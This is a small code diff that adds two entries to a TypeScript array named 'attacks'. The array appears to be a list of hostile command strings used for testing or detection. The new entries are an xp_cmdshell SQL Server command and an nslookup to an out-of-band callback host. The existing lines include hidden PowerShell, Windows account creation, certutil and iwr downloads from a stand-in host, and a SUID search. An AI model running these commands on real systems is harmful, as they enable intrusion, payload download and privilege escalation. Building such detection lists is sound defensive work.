@@ -19,6 +19,8 @@ const attacks: readonly string[] = [
   'cmd.exe /c dir',
   'powershell -nop -w hidden',
   'net user guest p /add',
+  "exec master..xp_cmdshell 'dir'",
+  'nslookup x1.oast.fun',
   'certutil -urlcache -f http://x.example/a',
   'iwr http://x.example/a -OutFile b',
   'find / -perm -4000',
